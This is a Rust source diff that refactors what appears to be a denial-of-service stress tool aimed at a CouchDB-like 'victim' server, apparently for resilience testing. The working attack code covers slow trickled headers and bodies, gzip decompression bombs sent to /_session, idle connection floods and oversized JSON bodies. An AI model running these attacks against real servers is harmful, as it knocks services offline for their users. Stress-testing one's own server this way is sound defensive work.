@@ -5,6 +5,7 @@ use std::sync::atomic::{AtomicU64, Ordering};
 use std::time::Duration;
 
 use bytes::Bytes;
+use clap::ValueEnum;
 use futures_util::stream;
 use http_body_util::combinators::UnsyncBoxBody;
 use http_body_util::{BodyExt, Empty, StreamBody};
@@ -12,14 +13,14 @@ use hyper::Request;
 use hyper::body::Frame;
 use hyper::client::conn::http2;
 use hyper_util::rt::{TokioExecutor, TokioIo};
+use settee_client::{JSON, Server};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 use tokio::task::JoinSet;
 
-use super::config::{Config, DATABASE};
-use crate::descriptors;
+use super::victim::{DATABASE, Victim};
 use crate::error::{Error, Result};
-use crate::http::Server;
+use crate::process::raise_descriptor_limit;
 
 /// Pause between two bytes of a trickled body or head.
 const TRICKLE_PAUSE: Duration = Duration::from_millis(500);
@@ -43,7 +44,7 @@ const DESCRIPTORS_SPARE: u64 = 200;
 const DECOMPRESSED_BYTES: f64 = (256 << 20) as f64;
 
 /// An attack by a group of hostile clients.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
 pub enum Attack {
     /// 64 anonymous logins that declare 256 MiB and trickle.
     DeclaredLogins,
@@ -68,34 +69,9 @@ pub enum Attack {
 }
 
 impl Attack {
-    /// All attacks.
-    pub const ALL: [Attack; 10] = [
-        Attack::DeclaredLogins,
-        Attack::TrickledStreams,
-        Attack::CompressedLogins,
-        Attack::IdleConnections,
-        Attack::EndlessHeads,
-        Attack::DeclaredUploads,
-        Attack::ManyNumbers,
-        Attack::ManyMembers,
-        Attack::ManyNames,
-        Attack::UnreadStreams,
-    ];
-
     /// The name on the command line.
-    pub fn name(self) -> &'static str {
-        match self {
-            Attack::DeclaredLogins => "declared-logins",
-            Attack::TrickledStreams => "trickled-streams",
-            Attack::CompressedLogins => "compressed-logins",
-            Attack::IdleConnections => "idle-connections",
-            Attack::EndlessHeads => "endless-heads",
-            Attack::DeclaredUploads => "declared-uploads",
-            Attack::ManyNumbers => "many-numbers",
-            Attack::ManyMembers => "many-members",
-            Attack::ManyNames => "many-names",
-            Attack::UnreadStreams => "unread-streams",
-        }
+    pub(super) fn name(self) -> String {
+        self.to_possible_value().expect("none is hidden").get_name().to_owned()
     }
 
     /// Number of clients at full scale.
@@ -112,20 +88,26 @@ impl Attack {
     }
 
     /// Starts the attack's clients as tasks that never end.
-    pub(super) fn begin(self, config: &Config, begun: &Begun, tasks: &mut JoinSet<()>) -> Result<()> {
-        let count = (self.clients() * config.scale).ceil() as u64;
-        descriptors::raise_limit(count + DESCRIPTORS_SPARE)
-            .map_err(|reason| Error::wrong(self.name(), reason))?;
+    pub(super) fn begin(
+        self,
+        victim: &Victim,
+        scale: f64,
+        begun: &Begun,
+        tasks: &mut JoinSet<()>,
+    ) -> Result<()> {
+        let count = (self.clients() * scale).ceil() as u64;
+        raise_descriptor_limit(count + DESCRIPTORS_SPARE)
+            .map_err(|reason| Error::wrong(&self.name(), reason))?;
         let compressed = match self {
-            Attack::CompressedLogins => compressed_login((DECOMPRESSED_BYTES * config.scale) as usize),
+            Attack::CompressedLogins => compressed_login((DECOMPRESSED_BYTES * scale) as usize),
             _ => Bytes::new(),
         };
         for _ in 0..count {
-            let (config, begun, compressed) = (config.clone(), begun.clone(), compressed.clone());
+            let (victim, begun, compressed) = (victim.clone(), begun.clone(), compressed.clone());
             tasks.spawn(async move {
                 loop {
                     // The outcome doesn't matter: the client repeats its attempt.
-                    self.attempt(&config, &begun, &compressed).await.ok();
+                    self.attempt(&victim, scale, &begun, &compressed).await.ok();
                     tokio::time::sleep(RETRY_PAUSE).await;
                 }
             });
@@ -134,45 +116,51 @@ impl Attack {
     }
 
     /// One attempt of one client, until the server ends it.
-    async fn attempt(self, config: &Config, begun: &Begun, compressed: &Bytes) -> std::io::Result<()> {
-        let text_bytes = (TEXT_BYTES * config.scale) as u64;
+    async fn attempt(
+        self,
+        victim: &Victim,
+        scale: f64,
+        begun: &Begun,
+        compressed: &Bytes,
+    ) -> std::io::Result<()> {
+        let text_bytes = (TEXT_BYTES * scale) as u64;
         match self {
-            Attack::DeclaredLogins => trickle(&config.anonymous, "POST", "/_session", begun).await,
+            Attack::DeclaredLogins => trickle(&victim.anonymous, "POST", "/_session", begun).await,
             Attack::DeclaredUploads => {
-                trickle(&config.admin, "PUT", &format!("/{DATABASE}/never/file"), begun).await
+                trickle(&victim.admin, "PUT", &format!("/{DATABASE}/never/file"), begun).await
             }
-            Attack::TrickledStreams => streams(&config.anonymous, begun, trickled_login).await,
-            Attack::UnreadStreams => streams(&config.admin, begun, large_listing).await,
+            Attack::TrickledStreams => streams(&victim.anonymous, begun, trickled_login).await,
+            Attack::UnreadStreams => streams(&victim.admin, begun, large_listing).await,
             Attack::CompressedLogins => {
-                let mut stream = connect(&config.anonymous, begun).await?;
+                let mut stream = connect(&victim.anonymous, begun).await?;
                 let mut request = Vec::new();
                 let kind = "application/x-www-form-urlencoded\r\nContent-Encoding: gzip";
                 let content = Some((kind, compressed.len()));
-                config.anonymous.render_head("POST", "/_session", content, &mut request);
+                victim.anonymous.render("POST", "/_session", content, &mut request);
                 request.extend_from_slice(compressed);
                 stream.write_all(&request).await?;
                 stream.read(&mut [0; 1024]).await.map(drop)
             }
             Attack::IdleConnections => {
-                let mut stream = connect(&config.anonymous, begun).await?;
+                let mut stream = connect(&victim.anonymous, begun).await?;
                 stream.read(&mut [0; 1]).await.map(drop)
             }
             Attack::EndlessHeads => {
-                let mut stream = connect(&config.anonymous, begun).await?;
+                let mut stream = connect(&victim.anonymous, begun).await?;
                 stream.write_all(b"GET / HTTP/1.1\r\nX-Never-Ending: ").await?;
                 trickle_into(&mut stream).await
             }
             Attack::ManyNumbers => {
                 let target = format!("/{DATABASE}/_revs_limit");
-                send_text(config, "PUT", &target, ("[", "0,", "0]"), text_bytes, begun).await
+                send_text(victim, "PUT", &target, ("[", "0,", "0]"), text_bytes, begun).await
             }
             Attack::ManyMembers => {
                 let target = format!("/{DATABASE}/many");
-                send_text(config, "PUT", &target, ("{", "\"\":1,", "\"\":1}"), text_bytes, begun).await
+                send_text(victim, "PUT", &target, ("{", "\"\":1,", "\"\":1}"), text_bytes, begun).await
             }
             Attack::ManyNames => {
                 let parts = ("{\"keys\":[", "\"a\",", "\"a\"]}");
-                send_text(config, "POST", "/_dbs_info", parts, text_bytes, begun).await
+                send_text(victim, "POST", "/_dbs_info", parts, text_bytes, begun).await
             }
         }
     }
@@ -211,27 +199,27 @@ async fn trickle_into(stream: &mut TcpStream) -> std::io::Result<()> {
 async fn trickle(server: &Server, method: &str, target: &str, begun: &Begun) -> std::io::Result<()> {
     let mut stream = connect(server, begun).await?;
     let mut head = Vec::new();
-    let content = Some(("application/json", DECLARED_BYTES as usize));
-    server.render_head(method, target, content, &mut head);
+    let content = Some((JSON, DECLARED_BYTES as usize));
+    server.render(method, target, content, &mut head);
     stream.write_all(&head).await?;
     trickle_into(&mut stream).await
 }
 
 /// Sends a body of about `bytes` that repeats `middle` between `front` and `end`, and waits for the response.
 async fn send_text(
-    config: &Config,
+    victim: &Victim,
     method: &str,
     target: &str,
     (front, middle, end): (&str, &str, &str),
     bytes: u64,
     begun: &Begun,
 ) -> std::io::Result<()> {
-    let mut stream = connect(&config.admin, begun).await?;
+    let mut stream = connect(&victim.admin, begun).await?;
     let count = bytes / middle.len() as u64;
     let length = front.len() as u64 + count * middle.len() as u64 + end.len() as u64;
     let mut head = Vec::new();
-    let length = Some(("application/json", usize::try_from(length).unwrap_or(usize::MAX)));
-    config.admin.render_head(method, target, length, &mut head);
+    let length = Some((JSON, usize::try_from(length).unwrap_or(usize::MAX)));
+    victim.admin.render(method, target, length, &mut head);
     stream.write_all(&head).await?;
     stream.write_all(front.as_bytes()).await?;
     let piece_count = (PIECE_BYTES / middle.len()) as u64;
@@ -319,15 +307,4 @@ fn compressed_login(name_bytes: usize) -> Bytes {
     };
     write().expect("writing to memory");
     encoder.get_ref().clone().into()
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn attack_names_are_unique() {
-        let names: std::collections::HashSet<_> = Attack::ALL.map(Attack::name).into();
-        assert_eq!(names.len(), Attack::ALL.len());
-    }
 }
